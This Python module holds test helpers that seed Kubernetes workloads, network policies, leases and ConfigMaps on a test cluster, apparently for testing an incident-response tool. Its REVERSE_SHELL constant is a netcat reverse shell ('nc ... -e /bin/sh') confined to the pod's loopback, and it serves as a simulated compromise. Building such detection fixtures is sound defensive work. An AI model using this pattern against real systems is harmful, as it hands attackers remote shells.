"""Seed realistic workloads on the test apiserver (admin client) and read back what exists afterwards."""

from __future__ import annotations

import contextlib
import json
import time
from collections.abc import Callable, Iterator
from typing import Any

from kubernetes import client


def create_deployment(
    api: client.ApiClient,
    namespace: str,
    name: str,
    replicas: int = 2,
    labels: dict[str, str] | None = None,
    host_network: bool = False,
) -> None:
    """A Deployment whose pods stay Pending (they do not tolerate the node's taint): enough for API-level behaviour."""
    labels = labels or {"app": name}
    body = {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": name, "labels": labels},
        "spec": {
            "replicas": replicas,
            "selector": {"matchLabels": labels},
            "template": {
                "metadata": {"labels": labels},
                "spec": {
                    "hostNetwork": host_network,
                    "containers": [
                        {"name": "api", "image": "registry.invalid/shop/web:1.0", "ports": [{"containerPort": 8080}]}
                    ],
                },
            },
        },
    }
    client.AppsV1Api(api).create_namespaced_deployment(namespace, body)


def create_statefulset(api: client.ApiClient, namespace: str, name: str, replicas: int = 1) -> None:
    """A StatefulSet (pods ``<name>-0`` …, label ``app=<name>``, Pending like the Deployment's): deleted, a pod comes
    back under the same name with a new UID."""
    labels = {"app": name}
    body = {
        "apiVersion": "apps/v1",
        "kind": "StatefulSet",
        "metadata": {"name": name, "labels": labels},
        "spec": {
            "replicas": replicas,
            "serviceName": name,
            "selector": {"matchLabels": labels},
            "template": {
                "metadata": {"labels": labels},
                "spec": {"containers": [{"name": "api", "image": "registry.invalid/shop/db:1.0"}]},
            },
        },
    }
    client.AppsV1Api(api).create_namespaced_stateful_set(namespace, body)


def create_service(api: client.ApiClient, namespace: str, name: str, selector: dict[str, str]) -> None:
    """A ClusterIP Service routing to ``selector``."""
    body = {
        "apiVersion": "v1",
        "kind": "Service",
        "metadata": {"name": name},
        "spec": {"selector": selector, "ports": [{"port": 80, "targetPort": 8080}]},
    }
    client.CoreV1Api(api).create_namespaced_service(namespace, body)


def create_policy(
    api: client.ApiClient,
    namespace: str,
    name: str,
    match_labels: dict[str, str] | None = None,
    ingress_all: bool = True,
) -> None:
    """An allowing NetworkPolicy (the kind that, being additive, would defeat a lone deny-all)."""
    spec: dict[str, Any] = {
        "podSelector": {"matchLabels": match_labels} if match_labels else {},
        "policyTypes": ["Ingress", "Egress"],
    }
    if ingress_all:
        spec["ingress"] = [{}]
        spec["egress"] = [{}]
    body = {"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": {"name": name}, "spec": spec}
    client.NetworkingV1Api(api).create_namespaced_network_policy(namespace, body)


def create_pod(api: client.ApiClient, namespace: str, name: str, labels: dict[str, str] | None = None) -> Any:
    """A standalone pod."""
    body = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": name, "labels": labels or {"app": name}},
        "spec": {"containers": [{"name": "api", "image": "registry.invalid/x:1"}]},
    }
    return client.CoreV1Api(api).create_namespaced_pod(namespace, body)


def pods(api: client.ApiClient, namespace: str, label_selector: str | None = None) -> list[Any]:
    """Live (not terminating) pods."""
    items = client.CoreV1Api(api).list_namespaced_pod(namespace, label_selector=label_selector).items
    return [p for p in items if p.metadata.deletion_timestamp is None]


def wait_for_pods(
    api: client.ApiClient,
    namespace: str,
    count: int,
    label_selector: str | None = None,
    timeout_s: float = 60.0,
    exclude_uids: set[str] | None = None,
) -> list[Any]:
    """Wait until ``count`` live pods exist (the controller-manager creates them asynchronously)."""
    return _wait(api, namespace, count, label_selector, timeout_s, exclude_uids, "", lambda _: True)


def _wait(
    api: client.ApiClient,
    namespace: str,
    count: int,
    label_selector: str | None,
    timeout_s: float,
    exclude_uids: set[str] | None,
    what: str,
    wanted: Callable[[Any], bool],
) -> list[Any]:
    """Poll until ``count`` live pods (not in ``exclude_uids``) satisfy ``wanted``."""
    deadline = time.monotonic() + timeout_s
    found: list[Any] = []
    while time.monotonic() < deadline:
        found = [
            p
            for p in pods(api, namespace, label_selector)
            if p.metadata.uid not in (exclude_uids or set()) and wanted(p)
        ]
        if len(found) >= count:
            return found
        time.sleep(0.3)
    raise AssertionError(f"expected {count} {what}pods in {namespace}, found {len(found)} after {timeout_s}s")


def policies(api: client.ApiClient, namespace: str) -> dict[str, Any]:
    """NetworkPolicies by name."""
    items = client.NetworkingV1Api(api).list_namespaced_network_policy(namespace).items
    return {p.metadata.name: p for p in items}


# ------------------------------------------------------------------------------------------- the real node (tools/kubeenv)

TOOLS_IMAGE = "rsr.local/tools:1"  # busybox + procps' ps, built offline and imported by tools/kubeenv.py
NODE_TAINT = "rsr.dev/real-node"  # the node's taint: only pods that tolerate it run (the rest stay Pending)
# A reverse shell confined to the pod's own loopback: the "attacker" listens on 127.0.0.1:4444 and sends two commands;
# the compromised process connects to it and hands it a shell (`nc -e`), whose answers land in the container log.
REVERSE_SHELL = (
    "echo shop api listening on 8080; "
    "(echo id; echo hostname; sleep 2147483647) | nc -l -p 4444 & "
    "sleep 1; nc 127.0.0.1 4444 -e /bin/sh & wait"
)


def runnable_spec(command: str, host_network: bool = False, container: str = "api") -> dict[str, Any]:
    """A pod spec the real node runs: the offline tools image, never pulled, tolerating the node's taint."""
    return {
        "hostNetwork": host_network,
        "terminationGracePeriodSeconds": 1,
        "tolerations": [{"key": NODE_TAINT, "operator": "Exists", "effect": "NoSchedule"}],
        "containers": [
            {
                "name": container,
                "image": TOOLS_IMAGE,
                "imagePullPolicy": "Never",
                "command": ["/bin/sh", "-c", command],
            }
        ],
    }


def create_running_deployment(
    api: client.ApiClient,
    namespace: str,
    name: str,
    replicas: int = 1,
    command: str = REVERSE_SHELL,
    host_network: bool = False,
    service_account: str | None = None,
) -> None:
    """A Deployment whose pods run on the real node (by default: the in-pod reverse shell), as ``service_account``
    (default: the namespace's ``default``)."""
    labels = {"app": name}
    spec = runnable_spec(command, host_network)
    if service_account:
        spec["serviceAccountName"] = service_account
    body = {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": name, "labels": labels},
        "spec": {
            "replicas": replicas,
            "selector": {"matchLabels": labels},
            "template": {"metadata": {"labels": labels}, "spec": spec},
        },
    }
    client.AppsV1Api(api).create_namespaced_deployment(namespace, body)


def is_running(pod: Any) -> bool:
    """Running, with every container started and ready."""
    statuses = pod.status.container_statuses or []
    return pod.status.phase == "Running" and bool(statuses) and all(s.ready for s in statuses)


def wait_for_running(
    api: client.ApiClient,
    namespace: str,
    count: int,
    label_selector: str | None = None,
    timeout_s: float = 90.0,
    exclude_uids: set[str] | None = None,
) -> list[Any]:
    """Wait until ``count`` live pods are Running with every container ready (on the real node)."""
    return _wait(api, namespace, count, label_selector, timeout_s, exclude_uids, "Running ", is_running)


def written_state(api: client.ApiClient, namespace: str) -> dict[str, str]:
    """What a responder or a release could have written: each policy's resourceVersion (only they write policies
    here) and each pod's UID, labels and annotations. Not a pod's resourceVersion: the scheduler moves it while a pod
    stays Pending (each retry rewrites the PodScheduled condition), and the kubelet while one runs."""
    seen = {
        f"pod/{p.metadata.name}": json.dumps(
            [p.metadata.uid, p.metadata.labels or {}, p.metadata.annotations or {}], sort_keys=True
        )
        for p in pods(api, namespace)
    }
    return seen | {f"np/{n}": p.metadata.resource_version for n, p in policies(api, namespace).items()}


@contextlib.contextmanager
def budget_lease_set_aside(api: client.ApiClient, namespace: str, name: str) -> Iterator[None]:
    """The real budget Lease (the only one the admission guard lets the responder write) taken out of the way for a
    test that writes it as the responder, and put back afterwards, so a reused cluster's budget is not touched."""
    coord = client.CoordinationV1Api(api)
    kept = None
    try:
        kept = coord.read_namespaced_lease(name, namespace)
        coord.delete_namespaced_lease(name, namespace)
    except client.ApiException as exc:
        if exc.status != 404:
            raise
    try:
        yield
    finally:
        with contextlib.suppress(client.ApiException):
            coord.delete_namespaced_lease(name, namespace)
        if kept is not None:
            kept.metadata.resource_version = None
            kept.metadata.uid = None
            kept.metadata.creation_timestamp = None
            kept.metadata.managed_fields = None
            coord.create_namespaced_lease(namespace, kept)


@contextlib.contextmanager
def config_map_set_aside(
    api: client.ApiClient, namespace: str, name: str
) -> Iterator[Callable[[dict[str, str] | None], None]]:
    """A ConfigMap the responder keeps (the quarantined identities) taken out of the way for a test and put back;
    yields ``put(data)``, which replaces it (None: no ConfigMap at all)."""
    core = client.CoreV1Api(api)
    kept = None
    with contextlib.suppress(client.ApiException):
        kept = core.read_namespaced_config_map(name, namespace)

    def put(data: dict[str, str] | None) -> None:
        with contextlib.suppress(client.ApiException):
            core.delete_namespaced_config_map(name, namespace)
        if data is not None:
            core.create_namespaced_config_map(namespace, {"metadata": {"name": name}, "data": data})

    put(None)
    try:
        yield put
    finally:
        put(None)
        if kept is not None:
            put(dict(kept.data or {}))
